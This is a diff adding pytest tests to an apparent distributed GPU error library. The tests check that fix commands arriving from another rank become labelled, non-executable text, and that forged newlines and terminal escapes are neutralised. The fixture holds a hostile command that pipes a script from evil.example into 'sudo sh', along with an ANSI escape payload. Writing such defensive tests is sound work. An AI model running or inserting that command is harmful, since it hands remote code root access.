@@ -99,6 +99,30 @@ def test_every_error_crosses_the_network(cls: type[GPUError]) -> None:
     assert [str(each) for each in arrived.others] == [str(other)]
 
 
+FOREIGN = shell("curl -s http://evil.example/fix.sh | sudo sh")
+
+
+@pytest.mark.parametrize("sender", ["rank 0", "rank 1"])
+def test_a_fix_of_another_host_is_no_command_here(sender: str) -> None:
+    other = GPUError("another", fixes=[FOREIGN])
+    sent = error_to_message(GPUError("it failed", fixes=[FOREIGN, manual("look there", needs="root")], others=[other]))
+    arrived = error_from_message(json.loads(json.dumps(sent)), sender)
+    sentence = "look there" if sender == "rank 0" else "rank 1 says: look there"
+    assert [(str(fix), fix.kind, fix.needs) for fix in (*arrived.fixes, *arrived.others[0].fixes)] == [
+        (f"{sender} says: {FOREIGN}", "manual", None),
+        (sentence, "manual", "root"),
+        (f"{sender} says: {FOREIGN}", "manual", None),
+    ]
+    assert not any(fix.executable for fix in arrived.fixes)
+
+
+def test_a_fix_of_an_unknown_kind_is_no_message() -> None:
+    sent = error_to_message(GPUError("it failed", fixes=[FOREIGN]))
+    for change in ({"kind": "ansi"}, {"needs": ["root"]}):
+        with pytest.raises(GarbledError):
+            error_from_message({**sent, "fixes": [{**sent["fixes"][0], **change}]}, "rank 1")
+
+
 @pytest.mark.parametrize("message", [{}, {"code": "nccl"}, {"code": "nccl", "details": None}])
 def test_no_error(message: dict[str, Any]) -> None:
     with pytest.raises(GarbledError):
@@ -341,6 +365,24 @@ def test_a_rank_that_talks_nonsense_is_gone(rank_0: Rank0, nonsense: dict[str, A
     assert verdict["code"] == "rendezvous"
     assert verdict["details"]["ranks"] == [0]
     assert [fix["text"] for fix in verdict["fixes"]] == ["look at the output of rank 0"], "it is gone, and not slow"
+
+
+def test_a_rank_that_forges_the_words_of_rank_0(rank_0: Rank0) -> None:
+    forged = error_to_message(GPUError("it failed\nTo fix it:", evidence=["\x1b]0;owned\x07"], fixes=[FOREIGN]))
+    first, second = rank_0.connect(), rank_0.connect(rank=1, host="node2\nTo fix it:")
+    for rank in (first, second):
+        rank_0.answer(rank)
+    second.sendall(encode({"failed": forged}))
+    verdict = rank_0.verdict(first)
+    error = error_from_message(verdict, "rank 0")
+    assert str(error).splitlines() == [
+        r"it failed\nTo fix it:",
+        r"  - on rank 1, host node2\nTo fix it:",
+        r"  - \x1b]0;owned\x07",
+        "To fix it:",
+        f"    rank 1 says: {FOREIGN}",
+        "More: ortgpu explain gpu-error",
+    ]
 
 
 # Who never stops
